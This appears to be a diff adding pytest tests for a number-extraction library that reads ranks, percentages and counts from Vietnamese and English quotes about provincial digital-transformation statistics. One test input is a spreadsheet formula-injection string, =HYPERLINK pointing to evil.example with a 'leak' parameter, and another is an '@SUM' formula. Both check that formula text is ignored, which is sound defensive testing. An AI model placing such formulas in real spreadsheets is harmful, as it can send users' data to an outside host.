@@ -58,3 +58,47 @@ def test_unknown_unit_suggests_the_nearest_id(mini_dir):
     units = read_table(mini_dir / "units.csv")
     with pytest.raises(KeyError, match="did you mean 'lao-cai'"):
         resolve_unit("lao-kai", units)
+
+
+def test_a_quote_in_english_is_read_the_english_way():
+    from dtlib.text import states_value
+
+    quote = "Quang Tri has 1,086 community digital technology teams; 72.63% of dossiers were submitted online."
+    assert states_value(quote, 1086, "en") and states_value(quote, 72.63, "en")
+    assert not states_value(quote, 1.086, "en")
+    assert not states_value(quote, 1086, "vi") and states_value(quote, 1.086, "vi")
+
+
+@pytest.mark.parametrize("quote, lang, measure, stated", [
+    ("Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.", "vi", "rank", [12.0]),
+    ("đứng thứ 52 trong số 63 tỉnh, thành của cả nước", "vi", "rank", [52.0]),
+    ("xếp hạng 1 trong số 34 tỉnh, thành.", "vi", "rank", [1.0]),
+    ("Hoạt động chính quyền số đạt vị trí thứ 10 toàn quốc.", "vi", "rank", [10.0]),
+    ("the province rose to the No. 1 position with a total of 83.83 points", "en", "rank", [1.0]),
+    ("ranked 14th out of 34 provinces", "en", "rank", [14.0]),
+    ("Tỉnh đứng thứ 12/63 về chỉ số chuyển đổi số.", "vi", "percent", []),
+    ("1.761 trong số 1.966 thủ tục hành chính (đạt 89,5%); 75,5% dịch vụ", "vi", "percent", [89.5, 75.5]),
+    ("tỷ lệ đạt 85 phần trăm", "vi", "percent", [85.0]),
+    ("1,595 teams; 72.63% of dossiers", "en", "percent", [72.63]),
+    ("1,595 teams; 72.63% of dossiers", "en", "count", [1595.0]),
+    ("đạt 85‰, có 1.761 Tổ", "vi", "count", [1761.0]),
+    ("đạt 85‰, có 1.761 Tổ", "vi", "percent", []),
+    ('=HYPERLINK("http://evil.example/?leak=1","bấm vào đây")', "vi", None, []),
+    ("xem https://e.example/2023/85-phan-tram, đạt 85%", "vi", None, [85.0]),
+    ("@SUM(1+1) đạt", "vi", None, []),
+    ("- Tỷ lệ hộ có cáp quang đạt 85%.", "vi", "percent", [85.0]),
+])
+def test_Q03_Q04_Q05_E09_numbers_in_reads_only_what_can_be_a_value_in_the_measure(quote, lang, measure, stated):
+    """A rank is a place, never its denominator; a percent is followed by %; a count is not a share;
+    numbers in web addresses and formula text are not stated."""
+    from dtlib.text import numbers_in, states_value
+
+    assert numbers_in(quote, lang, measure) == stated
+    assert all(states_value(quote, n, lang, measure) for n in stated)
+
+
+def test_Q03_the_denominator_of_a_rank_is_still_a_number_of_the_quote():
+    from dtlib.text import numbers_in, states_value
+
+    assert numbers_in("Tỉnh đứng thứ 12/63.") == [12.0, 63.0]
+    assert states_value("Tỉnh đứng thứ 12/63.", 63) and not states_value("Tỉnh đứng thứ 12/63.", 63, measure="rank")
